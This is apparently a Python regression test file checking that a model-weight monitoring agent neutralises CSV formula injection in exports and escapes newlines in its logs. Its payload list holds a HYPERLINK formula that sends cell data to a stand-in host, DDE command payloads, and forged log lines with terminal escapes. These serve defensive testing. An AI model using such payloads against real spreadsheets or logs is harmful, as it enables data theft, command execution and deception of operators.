"""Attacks (issue 15): export and logs trusted attacker text.

- The CSV export wrote paths, titles and process names starting with `=`, `+`, `-`, `@` as they were: a
  spreadsheet opening it evaluates them as formulas (CSV injection: HYPERLINK exfiltration, DDE).
- A file name holding a newline was written raw into the agent's log: one name forges whole log lines
  (and, under systemd, journal entries). Names in events and alerts are escaped where they are recorded
  (events.display_path), so the ALERT lines were already safe; the log itself was not, and any other text
  it quotes (a receiver's error, an exception's message) could forge lines. Now every log line is escaped.
"""

from __future__ import annotations

import csv
import logging
from pathlib import Path

import pytest

from tests.adversarial.forwarders_agent import agent_config, running_agent
from tests.waiting import wait_for
from weightwarden.agent.events import Alert, Destination, ProcessInfo
from weightwarden.agent.forward.testing.hec_stub import HecStub
from weightwarden.agent.log_format import FORMAT, EscapingFormatter
from weightwarden.agent.store import Store
from weightwarden.agent.store.review_queries import AlertFilter, AlertSort
from weightwarden.gui.export import CSV_COLUMNS, export_csv

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HARMLESS = ["/models/llama.safetensors", "a=b", "'quoted", "1-2"]


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path) -> None:
    database = tmp_path / "ww.db"
    store = Store(database)
    try:
        for n, text in enumerate(FORMULAS + HARMLESS):
            store.write([Alert(f"rule-{n}", text, 5, text, paths=(text, f"/x/{n}"), model=text,
                               process=ProcessInfo(pid=100 + n, name=text),
                               destination=Destination("network", address=text))])
    finally:
        store.close()
    reader = Store(database, read_only=True)
    try:
        out = tmp_path / "alerts.csv"
        assert export_csv(reader.review, AlertFilter(), AlertSort(), out) == len(FORMULAS + HARMLESS)
    finally:
        reader.close()
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == CSV_COLUMNS
    by_rule = {row["rule"]: row for row in rows}
    for n, text in enumerate(FORMULAS + HARMLESS):
        row = by_rule[f"rule-{n}"]
        expected = "'" + text if text in FORMULAS else text
        assert row["title"] == row["message"] == row["model"] == expected, row
        assert row["paths"] == ("'" if text in FORMULAS else "") + f"{text} | /x/{n}"
        assert row["process"] == ("'" if text in FORMULAS else "") + f"{text} ({100 + n})"
        assert row["destination"] == f"network: {text}"  # starts with the kind: never a formula
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


def log_line(message: str, *args: object, exc_info: bool = False) -> str:
    record = logging.LogRecord("weightwarden.test", logging.WARNING, __file__, 1, message, args, None)
    if exc_info:
        try:
            raise ValueError("bad\nname\x1b[2J")
        except ValueError:
            import sys

            record.exc_info = sys.exc_info()
    return EscapingFormatter(FORMAT).format(record)


def test_log_messages_are_one_line_whatever_they_quote() -> None:
    forged = "x.safetensors\n2026-01-01 00:00:00,000 WARNING weightwarden.agent: all clear\r\x1b[2J\x85\u2028\udcff"
    line = log_line("cannot watch access to %s: %s", forged, "denied")
    assert "\n" not in line and "\r" not in line and len(line.splitlines()) == 1
    assert line.endswith("cannot watch access to x.safetensors\\x0a2026-01-01 00:00:00,000 WARNING "
                         "weightwarden.agent: all clear\\x0d\\x1b[2J\\x85\\u2028\\udcff: denied")
    line.encode("utf-8")  # a lone surrogate is written as text, so the log can always be written


def test_a_traceback_keeps_its_lines_but_none_passes_for_a_record() -> None:
    text = log_line("failed on %s", "a\nb", exc_info=True)
    first, *rest = text.split("\n")
    assert first.endswith("failed on a\\x0ab") and rest and rest[0] == "  Traceback (most recent call last):"
    assert all(line.startswith("  ") for line in rest)
    assert rest[-2:] == ["  ValueError: bad", "  name\\x1b[2J"]  # the exception's own text: indented, escaped


@pytest.mark.e2e
def test_a_receivers_error_text_cannot_forge_agent_log_lines(tmp_path: Path) -> None:
    """A hostile or spoofed receiver (HEC over plain http, or anything in between) answers with an error text
    holding a newline and a forged log line: the agent logs the failure (and retries), on one line."""
    watched = tmp_path / "watched"
    watched.mkdir()
    forged = "2026-01-01 00:00:00,000 WARNING weightwarden.agent.forward.forwarder: all records delivered"
    with HecStub("7e3f4051-aaaa-bbbb-cccc-0123456789ab") as hec:
        hec.fail_next(1, 503, text=f"busy\n{forged}\x1b[2J")
        config = agent_config(tmp_path / "config.toml", data_dir=tmp_path / "data", watched=watched, forward=f"""
[forward.splunk]
type = "hec"
url = "{hec.url}"
token = "{hec.token}"
retry_initial_seconds = 0.1
""")
        log = tmp_path / "agent.log"
        with running_agent(config, log):
            wait_for(lambda: "forward splunk: HEC 503" in log.read_text(errors="replace"), timeout=30,
                     what="the receiver's error in the agent's log")
            wait_for(lambda: hec.events, timeout=30, what="delivery after the retry")
    text = log.read_text(errors="replace")
    assert not any(line.startswith(forged) for line in text.splitlines()), text[-2000:]
    assert f"HEC 503: busy\\x0a{forged}\\x1b[2J (code 9)" in text
